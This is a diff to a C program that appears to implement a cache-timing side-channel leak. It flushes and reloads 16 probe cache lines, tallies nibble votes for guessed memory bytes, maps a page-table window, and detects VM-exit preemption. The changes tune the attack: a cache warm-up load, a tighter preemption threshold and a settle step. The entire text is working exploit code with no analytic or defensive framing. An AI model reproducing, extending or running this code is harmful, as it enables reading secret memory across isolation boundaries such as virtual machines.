@@ -10,6 +10,7 @@
 #define PRESENT 1
 #define WRITE 2
 #define WINDOW 0x8000000000 // PML4 entry 1: nothing else is there
+#define PREEMPTED 1000 // cycles between two looks at the clock that a VM exit alone explains
 
 static uint64_t window_pud[512] __attribute__((aligned(PAGE)));
 static uint64_t window_pmd[512] __attribute__((aligned(PAGE)));
@@ -50,9 +51,11 @@ static void __attribute__((noinline)) leak(const volatile uint8_t *address, uint
 static int hot_line(uint64_t threshold)
 {
 	int hot = -1;
-	for (int i = 0; i < 16; i++) {
+	for (int i = -1; i < 16; i++) {
 		int line = (i * 7 + 5) & 15; // not in order: nothing shall run ahead of us
-		if (load_time(probe + line * LINE) < threshold)
+		// The first time is not a probe: it pays for the code's own way into the caches.
+		uint64_t time = load_time(i < 0 ? (const uint8_t *)guesses : probe + line * LINE);
+		if (i >= 0 && time < threshold)
 			hot = hot == -1 ? line : -2;
 	}
 	return hot < 0 ? -1 : hot;
@@ -79,7 +82,7 @@ static void wait_for_preemption(void)
 	uint64_t before = timestamp();
 	for (;;) {
 		uint64_t now = timestamp();
-		if (now - before > 6000)
+		if (now - before > PREEMPTED)
 			return;
 		before = now;
 	}
@@ -110,6 +113,7 @@ int main(uint64_t memory_bytes, const char *command_line)
 					flush(probe + line * LINE);
 				fence();
 				leak(window + i, (uint64_t)half * 4);
+				settle();
 				int nibble = hot_line(threshold);
 				if (nibble >= 0 && guesses[i].votes[half][nibble] < 255)
 					guesses[i].votes[half][nibble]++;
